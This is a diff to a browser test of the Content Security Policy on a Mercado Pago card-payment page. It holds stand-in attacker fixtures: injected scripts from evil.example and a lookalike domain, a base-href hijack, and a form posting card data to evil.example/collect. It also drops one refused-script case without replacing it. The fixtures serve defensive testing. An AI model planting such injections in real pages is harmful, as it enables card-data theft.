@@ -24,7 +24,10 @@ async function policyOfCardPage(): Promise<{ policy: string; nonce: string }> {
   return { policy, nonce }
 }
 
-/** Parts that the provider's card form loads and calls, and the same from elsewhere. */
+/**
+ * Parts that the provider's card form loads and calls, and the same from elsewhere. A script that a running one adds is
+ * trusted with it (docs/runbooks/going-live-payments.md): of strangers' scripts only those written into the page are refused.
+ */
 const PARTS = [
   ['script', 'https://sdk.mercadopago.com/js/v2', true],
   ['script', 'https://www.mercadopago.com/v2/security.js', true],
@@ -35,9 +38,6 @@ const PARTS = [
   ['frame', 'https://www.mercadolibre.com/device', true],
   ['call', 'https://api.mercadopago.com/v1/card_tokens', true],
   ['call', 'https://events.mercadopago.com/v2/track', true],
-  ['script', 'https://evil.example/a.js', false],
-  ['script', 'https://sdk.mercadopago.com.evil.example/js/v2', false],
-  ['script', 'https://secure-fields.mercadopago.com/a.js', false],
   ['style', 'https://evil.example/a.css', false],
   ['frame', 'https://evil.example/number', false],
   ['call', 'https://evil.example/collect', false],
@@ -89,7 +89,8 @@ test('the policy of the card page runs no script that was put into it', async ({
       headers: { 'content-type': 'text/html', 'content-security-policy': policy },
       body: `<!doctype html><title>Cartão</title>
         <script nonce="${nonce}">window.own = true; try { eval('window.evaluated = true') } catch {}</script>
-        <script>window.put = true</script><img src="x" onerror="window.put = true">
+        <script>window.put = true</script><script src="https://evil.example/a.js"></script>
+        <script src="https://sdk.mercadopago.com.evil.example/js/v2"></script><img src="x" onerror="window.put = true">
         <base href="https://evil.example/"><form action="https://evil.example/collect"><button>Pagar</button></form>`,
     })
   })
